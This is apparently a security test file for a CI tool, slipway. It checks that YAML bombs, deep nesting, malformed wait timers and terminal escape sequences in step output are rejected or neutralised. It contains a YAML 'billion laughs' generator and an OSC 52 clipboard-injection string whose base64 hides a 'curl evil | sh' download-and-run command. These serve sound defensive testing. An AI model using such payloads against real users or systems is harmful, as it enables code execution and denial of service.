// Bad input that costs nothing (issue 10 §5, the parts that held before, re-checked): YAML
// bombs and deep nesting in workflows and environments files end in a positioned error, fast,
// never a crash or an exhausted machine.
#include <gtest/gtest.h>

#include <chrono>

#include "tests/security/security_fixture.h"

namespace slipway::security {
namespace {

std::string Bomb() {
  std::string text = "a0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n";
  for (int i = 1; i < 10; ++i) {
    std::string prev = "*a" + std::to_string(i - 1);
    text += "a" + std::to_string(i) + ": &a" + std::to_string(i) + " [" + prev;
    for (int k = 0; k < 8; ++k) text += ", " + prev;
    text += "]\n";
  }
  return text;
}

std::string Deep(int depth) { return "on: push\njobs: " + std::string(depth, '[') + "\n"; }

TEST_F(SecurityTest, YamlBombsAndDeepNestingFailFast) {
  Write("bomb.yml", Bomb() + "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps: [{run: '*a9'}]\n");
  Write("deep.yml", Deep(100000));
  Write("wf.yml", kGated);
  Write("envs-bomb.yml", Bomb() + "environments:\n  production: {}\n");
  Write("envs-deep.yml", "environments: " + std::string(100000, '{') + "\n");
  auto started = std::chrono::steady_clock::now();
  for (const char* file : {"bomb.yml", "deep.yml"}) {
    CliResult validate = Slipway({"validate", file});
    EXPECT_EQ(validate.exit_code, 1) << file << validate.out << validate.err;
    EXPECT_TRUE(Has(validate.out + validate.err, std::string(file) + ":")) << validate.out;
    CliResult plan = Slipway({"plan", file, "--ref", "refs/heads/main"});
    EXPECT_EQ(plan.exit_code, 1) << file << plan.err;
  }
  for (const char* envs : {"envs-bomb.yml", "envs-deep.yml"}) {
    CliResult run = Slipway({"run", "wf.yml", "--state-dir", "state", "--ref", "refs/heads/main",
                             "--sha", "0123abcd", "--env-config", envs});
    EXPECT_EQ(run.exit_code, 1) << envs << run.out << run.err;
    EXPECT_TRUE(Has(run.err, std::string(envs) + ":")) << run.err;
  }
  EXPECT_FALSE(Exists("DEPLOYED"));
  // All eight commands together, far below what expanding a bomb would take.
  EXPECT_LT(std::chrono::steady_clock::now() - started, std::chrono::seconds(20));
}

// wait_timer is in minutes, as on GitHub, with units accepted and the exact problem named.
TEST_F(SecurityTest, WaitTimerUnitsAndLimits) {
  Write("wf.yml", kGated);
  struct Case {
    const char* value;
    const char* message;  // "" when valid
  };
  const Case cases[] = {
      {"30", ""},
      {"43200", ""},
      {"2h", ""},
      {"43201", "is 43201 minutes; the maximum is 43200 minutes (30 days)"},
      {"31d", "is 44640 minutes; the maximum is 43200 minutes (30 days)"},
      {"5 minutes", "is not a duration"},
      {"-5", "is negative"},
  };
  for (const Case& c : cases) {
    Write("envs.yml",
          std::string("environments:\n  production:\n    wait_timer: ") + c.value + "\n");
    CliResult plan =
        Slipway({"plan", "wf.yml", "--ref", "refs/heads/main", "--env-config", "envs.yml"});
    if (*c.message == '\0') {
      EXPECT_EQ(plan.exit_code, 0) << c.value << plan.err;
    } else {
      EXPECT_EQ(plan.exit_code, 1) << c.value;
      EXPECT_TRUE(Has(plan.err, "envs.yml:3:17: ")) << plan.err;
      EXPECT_TRUE(Has(plan.err, c.message)) << c.value << ": " << plan.err;
    }
  }
  Write("envs.yml", "environments:\n  production:\n    wait_timer: 30\n");
  CliResult plan =
      Slipway({"plan", "wf.yml", "--ref", "refs/heads/main", "--env-config", "envs.yml"});
  EXPECT_TRUE(Has(plan.out, "30m (wait timer)")) << plan.out;
}

// A reviewer reads step output in the terminal where they approve: a step must not be able to
// write to their clipboard (OSC 52), retitle or clear the window, or overwrite a line with a
// carriage return. Colours pass (attack audit 13).
TEST_F(SecurityTest, StepOutputCannotDriveTheTerminal) {
  Write("wf.yml",
        "on: push\njobs:\n  j:\n    runs-on: ubuntu-latest\n    steps:\n      - id: out\n"
        "        run: |\n"
        "          printf '\\033]52;c;Y3VybCBldmlsIHwgc2g=\\007clip\\n'\n"
        "          printf '\\033]0;title\\033\\\\ \\033[2Jcleared \\033[31mred\\033[0m\\n'\n");
  CliResult run = Slipway({"run", "wf.yml", "--state-dir", "state", "--ref", "refs/heads/main",
                           "--sha", "0123abcd", "--progress", "plain"});
  EXPECT_EQ(run.exit_code, 0) << run.out << run.err;
  std::string log;
  for (const auto& entry : fs::recursive_directory_iterator(dir_ / "state")) {
    if (entry.path().filename() == "01-out.log") log = Read(fs::relative(entry.path(), dir_));
  }
  ASSERT_FALSE(log.empty());
  for (const std::string& shown : {run.out + run.err, log}) {
    EXPECT_FALSE(Has(shown, "\x1b]")) << shown;
    EXPECT_FALSE(Has(shown, "\x1b[2J")) << shown;
    EXPECT_TRUE(Has(shown, "^[]52;c;Y3VybCBldmlsIHwgc2g=^Gclip")) << shown;
    EXPECT_TRUE(Has(shown, "^[[2Jcleared \x1b[31mred\x1b[0m")) << shown;
  }
}

}  // namespace
}  // namespace slipway::security
